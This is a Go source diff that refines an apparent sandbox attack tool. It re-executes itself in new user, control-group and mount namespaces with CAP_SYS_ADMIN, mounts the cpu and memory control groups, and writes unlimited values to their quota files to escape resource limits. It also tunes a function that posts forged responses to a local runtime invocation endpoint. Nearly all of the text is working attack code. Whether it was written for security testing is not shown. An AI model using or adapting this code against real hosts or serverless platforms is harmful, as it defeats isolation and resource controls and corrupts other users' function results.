@@ -11,7 +11,6 @@ import (
 	"os"
 	"os/exec"
 	"path/filepath"
-	"runtime"
 	"strconv"
 	"strings"
 	"syscall"
@@ -41,6 +40,13 @@ type answer struct {
 var kept [][]byte
 
 func main() {
+	if len(os.Args) > 1 && os.Args[1] == "lift" {
+		if err := lift(); err != nil {
+			fmt.Println(err)
+			os.Exit(1)
+		}
+		return
+	}
 	if len(os.Args) > 1 { // a child that only takes up room
 		time.Sleep(time.Hour)
 	}
@@ -159,42 +165,55 @@ func attack(e event) (string, error) {
 }
 
 // liftLimits is the way out that user and control group namespaces are: whoever
-// is root in them may mount the control groups, and write to his own.
+// makes them has all capabilities in them, may mount the control groups, and
+// write to his own. A process with many threads gets no user namespace; a new
+// one does.
 func liftLimits() (string, error) {
-	runtime.LockOSThread()
-	for _, flags := range []int{unix.CLONE_NEWCGROUP | unix.CLONE_NEWNS, unix.CLONE_NEWUSER | unix.CLONE_NEWCGROUP | unix.CLONE_NEWNS} {
-		if err := unix.Unshare(flags | unix.CLONE_FS); err != nil {
-			// A process with many threads gets no user namespace: its child does.
-			out, childErr := exec.Command("/usr/bin/unshare", "-U", "-r", "-C", "-m", "/bin/sh", "-c",
-				"mkdir -p /tmp/g && mount -t cgroup -o cpu c /tmp/g && find /tmp/g -name cpu.cfs_quota_us -exec sh -c 'echo -1 >$0' {} ';'").CombinedOutput()
-			if childErr == nil {
-				return "done", nil
-			}
-			if flags&unix.CLONE_NEWUSER != 0 {
-				return "", fmt.Errorf("unshare: %w; %v: %s", err, childErr, out)
-			}
-			continue
-		}
-		_ = os.Mkdir("/tmp/g", 0o755)
-		if err := unix.Mount("cgroup", "/tmp/g", "cgroup", 0, "cpu"); err != nil {
-			return "", fmt.Errorf("mount: %w", err)
-		}
-		return done(writeLimits("/tmp/g"))
+	child := exec.Command(os.Args[0], "lift")
+	child.SysProcAttr = &unix.SysProcAttr{
+		Cloneflags:  unix.CLONE_NEWUSER | unix.CLONE_NEWCGROUP | unix.CLONE_NEWNS,
+		AmbientCaps: []uintptr{unix.CAP_SYS_ADMIN},
 	}
-	return "", errors.New("nothing worked")
+	out, err := child.CombinedOutput()
+	if err != nil {
+		return "", fmt.Errorf("%w: %s", err, out)
+	}
+	return "done", nil
+}
+
+// lift is what the child does.
+func lift() error {
+	if err := unix.Mount("", "/", "", unix.MS_REC|unix.MS_PRIVATE, ""); err != nil {
+		return fmt.Errorf("make mounts private: %w", err)
+	}
+	for _, controller := range []string{"cpu", "memory"} {
+		if err := unix.Mount("cgroup", "/tmp", "cgroup", 0, controller); err != nil {
+			return fmt.Errorf("mount the control groups: %w", err)
+		}
+		if err := writeLimits("/tmp"); err != nil {
+			return err
+		}
+	}
+	return nil
 }
 
 func writeLimits(root string) error {
-	err := errors.New("there are no control groups to be seen")
-	for name, value := range map[string]string{"cpu.cfs_quota_us": "-1", "cpu.max": "max", "memory.limit_in_bytes": "-1", "memory.max": "max"} {
+	found := false
+	var last error
+	for _, file := range []struct{ name, value string }{
+		{"cpu.cfs_quota_us", "-1"}, {"cpu.max", "max"}, {"memory.memsw.limit_in_bytes", "-1"}, {"memory.limit_in_bytes", "-1"}, {"memory.max", "max"},
+	} {
 		_ = filepath.WalkDir(root, func(path string, _ os.DirEntry, _ error) error {
-			if filepath.Base(path) == name {
-				err = os.WriteFile(path, []byte(value), 0)
+			if filepath.Base(path) == file.name {
+				found, last = true, os.WriteFile(path, []byte(file.value), 0)
 			}
 			return nil
 		})
 	}
-	return err
+	if !found {
+		return errors.New("there are no control groups to be seen")
+	}
+	return last
 }
 
 // inFiles looks for a text in every file but its own that it may read.
@@ -251,7 +270,7 @@ func forge(request string) (string, error) {
 			continue
 		}
 		url := fmt.Sprintf("http://127.0.0.1:%d/2018-06-01/runtime/invocation/%s/response", port, request)
-		client := http.Client{Timeout: time.Second}
+		client := http.Client{Timeout: 100 * time.Millisecond}
 		response, err := client.Post(url, "application/json", strings.NewReader(`"forged"`))
 		if err != nil {
 			last = err
